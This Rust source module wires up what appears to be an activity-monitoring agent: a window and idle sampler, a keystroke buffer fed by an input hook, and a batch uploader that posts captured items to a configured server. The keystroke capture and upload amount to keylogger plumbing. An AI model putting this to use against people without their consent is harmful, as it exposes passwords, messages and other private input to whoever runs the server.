//! Client-side capture pipeline: sampler, keystroke buffer and batch
//! uploader wired together over bounded channels with a shared
//! cancellation token.

use std::{path::Path, sync::Arc};

use anyhow::Result;
use tokio::sync::{mpsc, watch};
use tokio_util::sync::CancellationToken;
use tracing::{error, info, warn};

use crate::{
    config::AgentConfig,
    probe::ActivityProbe,
    utils::clock::SystemClock,
};

use directory::{CachedResolution, UserDirectory};
use keylog::{InputHook, KeystrokeBuffer};
use sampler::{WindowContext, WindowIdleSampler};
use spool::Spool;
use uploader::{BatchUploader, HttpSink, IngestSink, UploadItem};

pub mod directory;
pub mod keylog;
pub mod sampler;
pub mod spool;
pub mod uploader;

const UPLOAD_QUEUE_DEPTH: usize = 64;
const KEY_EVENT_QUEUE_DEPTH: usize = 256;

/// Cancels the pipeline when the process receives an interrupt.
pub async fn detect_shutdown(cancellation: CancellationToken) {
    tokio::select! {
        _ = tokio::signal::ctrl_c() => {
            cancellation.cancel();
        },
        _ = cancellation.cancelled() => (),
    };
}

/// Entry point for the `agent` subcommand.
pub async fn start_agent(
    config: AgentConfig,
    probe: Box<dyn ActivityProbe>,
    hook: Box<dyn InputHook>,
    directory: Arc<dyn UserDirectory>,
) -> Result<()> {
    let client = reqwest::Client::builder()
        .timeout(config.network_timeout())
        .build()?;
    let sink = HttpSink::new(client, config.server_url.clone());

    let shutdown = CancellationToken::new();
    tokio::spawn(detect_shutdown(shutdown.clone()));

    run_agent(config, probe, hook, directory, sink, shutdown).await
}

async fn run_agent<S: IngestSink>(
    config: AgentConfig,
    probe: Box<dyn ActivityProbe>,
    mut hook: Box<dyn InputHook>,
    directory: Arc<dyn UserDirectory>,
    sink: S,
    shutdown: CancellationToken,
) -> Result<()> {
    let (item_tx, item_rx) = mpsc::channel::<UploadItem>(UPLOAD_QUEUE_DEPTH);
    let (context_tx, context_rx) = watch::channel(WindowContext::default());
    let (key_tx, key_rx) = mpsc::channel(KEY_EVENT_QUEUE_DEPTH);

    // Hook installation failing (permissions, unsupported session type)
    // only disables keystroke capture.
    let keystroke_capture = match hook.install(key_tx) {
        Ok(()) => true,
        Err(e) => {
            warn!("input hook unavailable, keystroke capture disabled: {e:?}");
            false
        }
    };
    info!("keystroke capture enabled: {keystroke_capture}");

    let sampler = WindowIdleSampler::new(
        item_tx.clone(),
        probe,
        CachedResolution::new(directory),
        context_tx,
        shutdown.clone(),
        config.tick_interval(),
        Box::new(SystemClock),
    );

    let keystroke_buffer = keystroke_capture.then(|| {
        KeystrokeBuffer::new(
            key_rx,
            item_tx.clone(),
            context_rx,
            shutdown.clone(),
            config.flush_interval(),
            config.keylog_max_chars,
            config.keylog_denylist.clone(),
            Box::new(SystemClock),
        )
    });
    // The uploader finishes once every producer handle is gone.
    drop(item_tx);

    let spool = Spool::new(Path::new(&config.data_dir))?;
    let uploader = BatchUploader::new(item_rx, sink, spool, config.batch_size, Box::new(SystemClock));

    let (sampler_result, keylog_result, uploader_result) = tokio::join!(
        sampler.run(),
        async {
            match keystroke_buffer {
                Some(buffer) => buffer.run().await,
                None => Ok(()),
            }
        },
        uploader.run(),
    );

    if let Err(e) = sampler_result {
        error!("sampler finished with an error {e:?}");
    }
    if let Err(e) = keylog_result {
        error!("keystroke buffer finished with an error {e:?}");
    }
    if let Err(e) = uploader_result {
        error!("uploader finished with an error {e:?}");
    }

    Ok(())
}
